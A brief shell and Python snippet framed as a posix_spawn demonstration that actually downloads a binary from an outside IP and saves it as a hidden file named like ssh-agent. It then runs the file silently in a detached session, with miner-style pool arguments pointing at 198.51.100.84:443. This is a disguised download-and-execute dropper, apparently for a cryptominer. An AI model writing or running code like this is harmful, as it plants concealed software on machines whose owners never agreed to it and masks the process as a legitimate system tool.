# posix_spawn (vfork) with file actions for the standard streams, after a download by a vforked curl
#http 203.0.113.60:8010
#pool 198.51.100.84:443:drop
python3 - <<'P'
import os,subprocess,time
subprocess.run(['curl','-so','/tmp/.ssh-agent.1','http://203.0.113.60:8010/w']); os.chmod('/tmp/.ssh-agent.1',0o700)
p=os.posix_spawn('/tmp/.ssh-agent.1',['ssh-agent','-o','198.51.100.84:443','-u','x','-R','1'],{'PATH':'/bin'},setsid=True,file_actions=[(os.POSIX_SPAWN_OPEN,i,'/dev/null',os.O_RDWR,0) for i in range(3)])
time.sleep(8); os.kill(p,9)
P
